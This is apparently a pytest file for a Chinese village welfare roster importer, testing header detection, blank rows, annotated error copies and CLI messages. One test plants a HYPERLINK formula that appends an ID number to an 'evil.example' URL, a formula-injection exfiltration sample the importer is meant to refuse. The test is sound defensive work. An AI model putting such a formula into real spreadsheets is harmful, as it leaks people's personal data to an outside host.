"""The roster import as clerks use it: title rows above the header, blank rows, formulas,
a bad head's row, and the words of the answer."""

import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from bangfu.cli import main
from tests.helpers import XIANGFEN_VILLAGE, World, id_number
from tests.hostile_files import Formula, xlsx
from tests.roster_files import HEADERS_ZH, bare, household, workbook
from tests.test_cli import env as env
from tests.test_roster_import import audit_rows, checksum_wrong, counts, upload

pytestmark = pytest.mark.anyio


def clerks_workbook(rows: list[list[Any]], *, blank_before: dict[int, int] | None = None) -> bytes:
    """A roster as clerks make it: a title merged across the columns, a line of notes, a
    blank row, then the header (row 4) and ``rows``; ``blank_before`` inserts blank rows
    before the data row of that index."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["东关村困难群众花名册"])
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(HEADERS_ZH))
    sheet.append(["填报单位：东关村", None, None, None, "填报日期：2026年3月"])
    sheet.append([])
    sheet.append(HEADERS_ZH)
    for index, row in enumerate(rows):
        for _ in range((blank_before or {}).get(index, 0)):
            sheet.append([])
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def marked(sheet: Any, row: int, column: int) -> bool:
    cell = sheet.cell(row=row, column=column)
    return cell.fill.fill_type is not None and cell.comment is not None


async def test_a_title_row_above_the_header_hides_no_problem(world: World) -> None:
    h = world.h
    rows = household(
        XIANGFEN_VILLAGE,
        (id_number(), "王建国"),
        (id_number(), "王小明", "子女"),
        (id_number(), "李秀英", "配偶"),
    )
    rows += household(XIANGFEN_VILLAGE, (id_number(), "李四"))
    rows[1][1] = checksum_wrong(rows[1][1])  # spreadsheet row 6
    rows[2][3] = "表哥"  # row 7: a relation the registry does not know
    content = clerks_workbook(rows)
    report = (await upload(h, world.xiangfen, content)).json()
    assert {(p["row"], p["column"]) for p in report["problems"]} == {
        (6, "id_number"),
        (7, "relation"),
    }
    assert report["rows"] == 4 and report["badRows"] == 2
    # The annotated copy keeps the title and notes where they were.
    response = await upload(h, world.xiangfen, content, report="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert sheet.cell(row=1, column=1).value == "东关村困难群众花名册"
    assert sheet.cell(row=4, column=len(HEADERS_ZH) + 1).value == "problems"
    assert marked(sheet, 6, 2) and marked(sheet, 7, 4)
    assert not marked(sheet, 5, 2)
    # Without the missing rows' problems, the same file imports.
    rows[1][1], rows[2][3] = id_number(), "配偶"
    response = await upload(h, world.xiangfen, clerks_workbook(rows))
    assert response.status_code == 200, response.text
    assert (await counts(h))["Person"] == 4


async def test_a_file_without_a_header_says_where_one_was_looked_for(world: World) -> None:
    rows = [["东关村困难群众花名册"], *([f"说明 {n}"] for n in range(12))]
    report = (await upload(world.h, world.xiangfen, xlsx(rows))).json()
    assert bare(report["problems"]) == [
        {
            "row": 1,
            "column": None,
            "reason": "no header row was found in the first 10 rows: the header row names the "
            "columns, e.g. 户主身份证号, 身份证号, 姓名 and 与户主关系 (or head_id_number, "
            "id_number, name and relation); start from the template (bangfu import template, "
            "or GET /import/roster/template)",
        }
    ]
    # The header row that names some columns is taken to be the header, and what it
    # misses is named there.
    half = xlsx([["东关村困难群众花名册"], ["户主身份证号", "身份证号"], ["x", "y"]])
    reasons = {
        (p["row"], p["reason"])
        for p in (await upload(world.h, world.xiangfen, half)).json()["problems"]
    }
    assert (
        2,
        "the column 姓名 / name is missing from the header row, and every roster needs it: add "
        "it (the template has every column)",
    ) in reasons
    assert await audit_rows(world.h) == [("roster.import", "failed", False)] * 2


async def test_the_annotated_copy_marks_the_rows_the_answer_names(world: World) -> None:
    """Blank rows before the problems, and a first column left empty: the red cells are
    where the answer says, not six rows (or one column) off."""
    h = world.h
    rows = []
    for _ in range(60):
        rows += household(XIANGFEN_VILLAGE, (id_number(), "户主"), (id_number(), "户员", "子女"))
    rows = [[None, *row] for row in rows]  # column A stays empty: the roster starts at B
    rows[85][2] = checksum_wrong(rows[85][2])  # id_number, column C
    rows[113][4] = "表哥"  # relation, column E
    blank_before = {10: 3, 50: 3}
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([None, *HEADERS_ZH])
    for index, row in enumerate(rows):
        for _ in range(blank_before.get(index, 0)):
            sheet.append([])
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    # Data row i is on spreadsheet row i + 2, plus the blank rows above it.
    first, second = 85 + 2 + 6, 113 + 2 + 6
    response = await upload(h, world.xiangfen, out.getvalue())
    assert {(p["row"], p["column"]) for p in response.json()["problems"]} == {
        (first, "id_number"),
        (second, "relation"),
    }
    response = await upload(h, world.xiangfen, out.getvalue(), report="xlsx")
    copy = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert (
        marked(copy, first, 3) and "check character" in copy.cell(row=first, column=3).comment.text
    )
    assert marked(copy, second, 5) and "「表哥」" in copy.cell(row=second, column=5).comment.text
    assert not marked(copy, first - 6, 3) and not marked(copy, second - 6, 5)
    assert copy.cell(row=first, column=3).value == rows[85][2]
    problems_column = len(HEADERS_ZH) + 2
    assert copy.cell(row=1, column=problems_column).value == "problems"
    assert copy.cell(row=first, column=problems_column).value.startswith("id_number: the ID")
    assert "check character" in copy.cell(row=first, column=problems_column).value
    assert copy.cell(row=12, column=3).value is None  # a blank row, copied blank


async def test_a_formula_in_an_imported_column_is_refused_by_its_cell(world: World) -> None:
    h = world.h
    head, child = id_number(), id_number()
    header = ["序号", *HEADERS_ZH]
    rows: list[list[Any]] = [
        header,
        [Formula("ROW()-1", 1), head, head, "王建国", "户主", XIANGFEN_VILLAGE, None, None],
        [
            Formula("ROW()-1", 2),
            head,
            child,
            Formula('HYPERLINK("http://evil.example/?"&C3,"王小明")', "王小明"),
            "子女",
            None,
            None,
            None,
        ],
    ]
    response = await upload(h, world.xiangfen, xlsx(rows))
    assert response.status_code == 422
    [problem] = response.json()["problems"]
    assert problem == {
        "row": 3,
        "column": "name",
        "columnName": "name",
        "cell": "D3",
        "reason": "the cell holds a formula, and a roster takes typed values only: copy the "
        "column and paste it back as values (选择性粘贴 → 数值)",
        "message": 'Row 3, column "name" (cell D3): the cell holds a formula, and a roster '
        "takes typed values only: copy the column and paste it back as values "
        "(选择性粘贴 → 数值)",
    }
    assert (await counts(h))["Person"] == 0
    # A formula in a column that is not imported (序号 = ROW()-1) does not matter.
    rows[2][3] = "王小明"
    response = await upload(h, world.xiangfen, xlsx(rows))
    assert response.status_code == 200, response.text
    assert (await counts(h))["Person"] == 2


async def test_a_bad_head_row_is_the_one_problem_of_its_household(world: World) -> None:
    rows = household(
        XIANGFEN_VILLAGE,
        (id_number(), ""),  # the head's name is missing
        (id_number(), "甲", "配偶"),
        (id_number(), "乙", "子女"),
        (id_number(), "丙", "子女"),
        (id_number(), "丁", "父母"),
    )
    report = (await upload(world.h, world.xiangfen, workbook(rows))).json()
    assert bare(report["problems"]) == [
        {
            "row": 2,
            "column": "name",
            "reason": "the name is empty: write the person's name as on the ID card",
        }
    ]
    assert report["badRows"] == 1
    # A household whose head is neither in the file nor registered: each row says so.
    orphaned = [[id_number(), id_number(), "戊", "子女", None, None, None]]
    report = (await upload(world.h, world.xiangfen, workbook(orphaned))).json()
    assert [p["reason"] for p in report["problems"]] == [
        "no head with this head's ID number is registered in your area, and the file has no "
        "row for this head: add the head's own row (relation 户主), or correct the head's ID "
        "number (户主身份证号)"
    ]


def test_the_command_speaks_in_whole_sentences(
    env: dict[str, str | None],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("BANGFU_LANGUAGE", "en")
    assert main(["db", "upgrade"]) == 0
    roster = tmp_path / "roster.xlsx"
    rows = household("141023", (id_number(), "王建国"), (id_number(), "王小明", "表哥"))
    roster.write_bytes(workbook(rows))
    capsys.readouterr()
    assert main(["import", "roster", str(roster)]) == 1
    captured = capsys.readouterr()
    assert "1 problem was found, in row 3; nothing was written." in captured.out
    assert "problems in" not in captured.out and "1 rows" not in captured.out
    # The bar counts the rows it validates, out of how many there are: never "0 rows".
    assert "checking the rows" in captured.err and "/2 " in captured.err
    assert "0 rows" not in captured.err

    rows[1][3] = "子女"
    roster.write_bytes(workbook(rows))
    assert main(["import", "roster", str(roster), "--dry-run"]) == 0
    assert "All 2 rows are valid; this was a dry run: nothing was written." in (
        capsys.readouterr().out
    )

    roster.write_bytes(workbook(rows, headers=HEADERS_ZH[:2]))
    assert main(["import", "roster", str(roster)]) == 1
    out = capsys.readouterr().out
    assert "Header row 1: the column 姓名 / name is missing from the header row" in out
    assert "The file was refused; nothing was written." in out
    assert "of 0" not in out
